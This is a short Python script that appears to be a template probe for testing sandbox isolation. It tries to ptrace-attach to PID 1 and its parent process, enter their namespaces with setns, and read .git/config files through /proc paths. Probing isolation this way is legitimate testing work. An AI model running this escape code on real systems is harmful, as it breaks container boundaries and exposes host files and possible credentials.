"""Takes hold of the first process that it sees, and enters the namespaces that it lives in.

Only inside the walls: it could harm the machine.
"""

# %%
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, os.getppid()):
    if libc.ptrace(16, pid, None, None) == 0:
        print("traces", pid, "{marker}"[::-1])
    for name in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
        try:
            space = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            if libc.setns(space, 0) == 0:
                print("is in", name, "{marker}"[::-1])
        except OSError as error:
            print(error)
    for path in (f"/proc/{pid}/root{root}/.git/config", f"/proc/{pid}/cwd{root}/.git/config"):
        try:
            print(open(path).read())
        except OSError as error:
            print(error)
